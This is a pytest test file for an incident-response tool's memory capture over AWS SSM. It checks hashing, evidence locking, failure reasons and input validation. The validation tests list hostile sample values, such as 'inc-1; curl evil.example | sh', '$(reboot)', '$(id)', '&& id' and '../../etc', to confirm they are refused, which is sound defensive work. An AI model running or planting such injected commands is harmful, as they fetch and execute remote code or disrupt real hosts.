"""Memory acquisition over SSM against moto: the capture document is sent once with the bucket and the image's folder
as its parameters (never pasted into shell text), a value with shell syntax is refused before anything is sent; the
image the instance stores (tests/fake_agent.py plays the instance) is hashed by the worker, locked and recorded, and
when there is none the result says exactly why."""

from __future__ import annotations

import hashlib
import json

import boto3
import pytest
from temporalio.exceptions import ApplicationError

from activities.memory import acquire_memory
from activities.memory_document import CAPTURE_MEMORY_DOCUMENT, ensure_capture_memory_document
from irflow.models.errors import INVALID_REQUEST
from irflow.models.settings import get_settings
from tests.activities.evidence_support import (
    INCIDENT_ID,
    assert_locked_evidence,
    instance_commands,
    stored_bytes,
    target_fixture,  # noqa: F401  (a fixture: pytest finds it in the module)
)
from tests.fake_agent import fake_ssm_agent


@pytest.fixture(autouse=True)
def capture_document(workload):
    """The capture document, as the dev stack and infra/ssm-capture-memory.json create it."""
    ssm = boto3.client("ssm", region_name=workload.region)
    ensure_capture_memory_document(ssm)  # the workload fixture made it already, as the dev stack does
    assert ensure_capture_memory_document(ssm) is False, "created once"
    return json.loads(ssm.get_document(Name=CAPTURE_MEMORY_DOCUMENT)["Content"])


def _uploader(workload) -> str:
    """`aws:userid` of the instance's role session: `<role id>:<instance id>`."""
    role_id = boto3.client("iam").get_role(RoleName=workload.role_name)["Role"]["RoleId"]
    return f"{role_id}:{workload.instance_id}"


def test_the_image_is_hashed_by_the_worker_locked_and_recorded(workload, target):
    image = b"LiME" + bytes(range(256)) * 80_000  # ~20 MiB: hashed over several chunks
    with fake_ssm_agent(image) as agent:
        result = acquire_memory(target)
    [command] = instance_commands(workload)
    assert result.command_id == command["CommandId"] and result.status == "Success"
    assert result.document == CAPTURE_MEMORY_DOCUMENT == command["DocumentName"] and result.tool == "avml"
    assert result.captured and result.reason == ""
    folder = f"incidents/{INCIDENT_ID}/memory/{_uploader(workload)}/"
    assert result.image.key == f"{folder}memory.lime" and result.image.kind == "memory-image"
    assert result.image.sha256 == hashlib.sha256(image).hexdigest() == agent.sha256 == result.agent_sha256
    assert result.image.size == len(image)
    assert stored_bytes(workload, result.image) == image
    assert_locked_evidence(workload, result.image)
    assert result.image.collected_by == f"{_uploader(workload)} through SSM command {result.command_id}"
    assert result.image.activity_attempt is None  # called directly here: no activity attempt to record
    record = json.loads(stored_bytes(workload, result.evidence))
    assert record["image"]["sha256"] == result.image.sha256 and record["instance_sha256"] == agent.sha256
    assert record["parameters"] == command["Parameters"]
    assert_locked_evidence(workload, result.evidence)


def test_the_folder_is_a_parameter_and_no_value_is_in_the_shell_text(workload, target, capture_document):
    with fake_ssm_agent():
        acquire_memory(target)
    [command] = instance_commands(workload)
    folder = f"incidents/{INCIDENT_ID}/memory/{_uploader(workload)}/"
    assert command["Parameters"] == {"bucket": [workload.evidence_bucket], "prefix": [folder]}
    shell = "\n".join(capture_document["mainSteps"][0]["inputs"]["runCommand"])
    assert INCIDENT_ID not in shell and workload.evidence_bucket not in shell
    assert "{{ bucket }}" in shell and "$SSM_prefix" in shell.replace("${SSM_prefix}", "$SSM_prefix")
    for name, declared in capture_document["parameters"].items():
        assert declared["interpolationType"] == "ENV_VAR" and declared["allowedPattern"].startswith("^"), name
    assert command["OutputS3KeyPrefix"] == f"{folder}ssm-output"


def test_bytes_stored_other_than_the_instance_hashed_are_named(workload, target):
    with fake_ssm_agent(b"the image as read", stored_bytes=b"something else") as agent:
        result = acquire_memory(target)
    assert result.image.sha256 == hashlib.sha256(b"something else").hexdigest()
    assert result.agent_sha256 == agent.sha256 != result.image.sha256
    assert result.image.sha256 in result.reason and agent.sha256 in result.reason


@pytest.mark.parametrize(
    ("behaviour", "why"),
    [
        ({"status": "Undeliverable"}, "never took the command"),
        ({"status": "TimedOut"}, "did not finish in time"),
        ({"status": "Failed"}, "failed on the instance"),
        ({"store": False}, "stored no image"),
    ],
)
def test_no_image_says_exactly_why(workload, target, behaviour, why):
    with fake_ssm_agent(**behaviour):
        result = acquire_memory(target)
    assert not result.captured and result.image is None and why in result.reason
    assert json.loads(stored_bytes(workload, result.evidence))["why_not"] == result.reason


def test_an_instance_without_a_profile_gets_no_command(workload, target):
    ec2 = boto3.client("ec2", region_name=workload.region)
    [association] = ec2.describe_iam_instance_profile_associations(
        Filters=[{"Name": "instance-id", "Values": [workload.instance_id]}]
    )["IamInstanceProfileAssociations"]
    ec2.disassociate_iam_instance_profile(AssociationId=association["AssociationId"])
    result = acquire_memory(target)
    assert result.status == "NotSent" and "no instance profile" in result.reason
    assert instance_commands(workload) == []


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("incident_id", "inc-1; curl evil.example | sh"),
        ("incident_id", "inc-$(reboot)"),
        ("incident_id", "../../etc"),
        ("instance_id", "i-0123456789abcdef0 && id"),
    ],
)
def test_a_target_value_with_shell_syntax_is_refused_before_sending(workload, target, field, value):
    with pytest.raises(ApplicationError) as refused:
        acquire_memory(target.model_copy(update={field: value}))
    assert refused.value.type == INVALID_REQUEST and refused.value.non_retryable
    assert instance_commands(workload) == []


@pytest.mark.parametrize("bucket", ["evidence;reboot", "evidence bucket", "evidence$(id)", "x"])
def test_an_evidence_bucket_with_shell_syntax_is_refused_before_sending(workload, target, monkeypatch, bucket):
    monkeypatch.setenv("IRFLOW_EVIDENCE_BUCKET", bucket)
    get_settings.cache_clear()
    with pytest.raises(ApplicationError) as refused:
        acquire_memory(target)
    assert refused.value.type == INVALID_REQUEST and "bucket name" in str(refused.value)
    assert instance_commands(workload) == []


def test_acquire_memory_twice_sends_one_command_and_records_the_same_image(workload, target):
    with fake_ssm_agent():
        first = acquire_memory(target)
        second = acquire_memory(target)
    assert second.command_id == first.command_id
    assert [c["CommandId"] for c in instance_commands(workload)] == [first.command_id]
    assert (second.image.version_id, second.image.sha256) == (first.image.version_id, first.image.sha256)
